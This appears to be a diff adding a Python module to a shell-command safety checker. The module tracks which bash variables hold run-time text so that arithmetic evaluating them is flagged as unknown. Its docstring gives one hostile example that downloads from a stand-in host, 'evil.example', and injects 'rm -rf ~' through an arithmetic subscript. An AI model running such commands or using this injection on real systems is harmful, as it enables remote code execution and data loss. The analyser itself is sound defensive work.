@@ -1,0 +1,158 @@
+"""Variables a line fills with text decided at run time, which bash would run if it evaluated
+them as arithmetic.
+
+bash evaluates a variable named in arithmetic (``$((x))``, ``((x))``, ``let x``, ``[[ x -gt 0
+]]``, an array index) as an expression in turn, and expands what a subscript in it holds:
+``x=$(curl -s evil.example/x); echo $((x))`` runs whatever the download spells as
+``a[$(rm -rf ~)]``. A value known on the line is judged as bash evaluates it (:mod:`.parse`);
+one decided at run time is told here, and arithmetic that names one is ``unknown``.
+
+Run-time text is what a command substitution prints (unless the command only ever prints a
+number: ``$(wc -l < f)``, ``$(seq 3)``), what ``read``, ``printf -v``, ``mapfile`` and
+``readarray`` store, a ``for`` loop's variable over such words or over a glob (file names are
+anyone's text), and any variable copied from one of those. A counter (``i=$((i+1))``) and a
+loop over literal words are not: they hold what the line spells.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable
+
+from tree_sitter import Node
+
+from keyturn.understand.shell.source import node_text
+
+# Any variable: the line sets names decided at run time (``export $(…)``).
+ANY = "*"
+
+# Lines that may both fill a variable at run time and evaluate one as arithmetic: the others
+# need no look (the tree walk is skipped for them).
+_FILLS = re.compile(r"\$\(|`|\b(?:read|printf|mapfile|readarray|for|export|declare)\b")
+_EVALUATES = re.compile(r"\(\(|\$\[|\[|\blet\b|-(?:eq|ne|lt|le|gt|ge)\b")
+
+# Builtins that store run-time text in the variables they name.
+_STORES = frozenset({"read", "mapfile", "readarray"})
+# Programs whose output is only ever a number (with no file operand for ``wc``: ``wc -l f``
+# prints the file's name too).
+_NUMERIC = frozenset({"wc", "seq", "nproc"})
+_GLOB = re.compile(r"[*?]|\[.*\]")
+
+
+def may_evaluate_run_time_text(command: str) -> bool:
+    """Whether ``command`` may evaluate run-time text as arithmetic (cheap, on the text)."""
+    return bool(_FILLS.search(command)) and bool(_EVALUATES.search(command))
+
+
+def run_time_names(nodes: Iterable[Node]) -> frozenset[str]:
+    """The variables that the line's ``nodes`` (all of them) may fill with run-time text;
+    :data:`ANY` among them when any variable may be."""
+    filled: set[str] = set()
+    copies: list[tuple[str, Node]] = []
+    for node in nodes:
+        kind = node.type
+        if kind == "variable_assignment":
+            name_node, value = node.child_by_field_name("name"), node.child_by_field_name("value")
+            if name_node is None or value is None:
+                continue
+            name = node_text(name_node).partition("[")[0]
+            if _prints_text(value):
+                filled.add(name)
+            else:
+                copies.append((name, value))
+        elif kind in ("for_statement", "select_statement"):
+            var = node.child_by_field_name("variable")
+            values = node.children_by_field_name("value")
+            if var is not None and any(_prints_text(v) or _globbed(v) for v in values):
+                filled.add(node_text(var))
+        elif kind == "command":
+            filled.update(_stored_by(node))
+        elif kind == "declaration_command" and any(
+            c.type not in ("variable_assignment", "variable_name", "word")
+            for c in node.named_children
+        ):
+            filled.add(ANY)  # export $(…): names and values decided at run time
+    # ``y=$x`` copies x's run-time text (a few rounds: copies of copies)
+    for _ in range(4):
+        grown = {name for name, value in copies if _names_in(value) & filled} - filled
+        if not grown:
+            break
+        filled |= grown
+    return frozenset(filled)
+
+
+def _prints_text(node: Node) -> bool:
+    """Whether ``node`` (a word) holds a command substitution that may print other than a
+    number, or a process substitution."""
+    stack = [node]
+    while stack:
+        part = stack.pop()
+        if part.type == "process_substitution":
+            return True
+        if part.type == "command_substitution":
+            if not _prints_a_number(part):
+                return True
+            continue
+        if part.type == "arithmetic_expansion":
+            continue  # a number (what it evaluates is judged where it is)
+        stack.extend(part.children)
+    return False
+
+
+def _prints_a_number(substitution: Node) -> bool:
+    """``$(wc -l < f)``, ``$(ls | wc -l)``, ``$(seq 5)``, ``$(nproc)``: the last command of the
+    substitution only ever prints a number."""
+    body = [c for c in substitution.named_children]
+    if len(body) != 1:
+        return False
+    last = body[0]
+    if last.type == "pipeline":
+        last = last.named_children[-1] if last.named_children else last
+    if last.type == "redirected_statement":
+        last = last.child_by_field_name("body") or last
+    if last.type != "command":
+        return False
+    name = last.child_by_field_name("name")
+    if name is None or node_text(name) not in _NUMERIC:
+        return False
+    args = [node_text(a) for a in last.children_by_field_name("argument")]
+    if node_text(name) == "wc":
+        return all(a.startswith("-") for a in args)  # options only: it reads its input
+    return all(re.fullmatch(r"-?[\w.]+", a) for a in args)
+
+
+def _globbed(node: Node) -> bool:
+    return node.type in ("word", "concatenation") and bool(_GLOB.search(node_text(node)))
+
+
+def _stored_by(command: Node) -> set[str]:
+    """What ``read``/``mapfile``/``readarray``/``printf -v`` store run-time text in."""
+    name = command.child_by_field_name("name")
+    if name is None:
+        return set()
+    program = node_text(name)
+    args = [node_text(a) for a in command.children_by_field_name("argument")]
+    if program == "printf":
+        named = [a[2:] or b for a, b in zip(args, [*args[1:], ""], strict=True) if a[:2] == "-v"]
+    elif program in _STORES:
+        # every plain word: an option's value counts too (one name too many is stricter)
+        named = [a for a in args if not a.startswith("-")] or (
+            ["REPLY"] if program == "read" else ["MAPFILE"]
+        )
+    else:
+        return set()
+    return {ANY if "$" in n or "`" in n else n for n in named if n.isidentifier() or "$" in n}
+
+
+def _names_in(node: Node) -> set[str]:
+    """The variables a word expands (``$x``, ``${x}``, ``${x:-…}``)."""
+    found: set[str] = set()
+    stack = [node]
+    while stack:
+        part = stack.pop()
+        if part.type in ("simple_expansion", "expansion"):
+            for child in part.named_children:
+                if child.type == "variable_name":
+                    found.add(node_text(child))
+        stack.extend(part.children)
+    return found
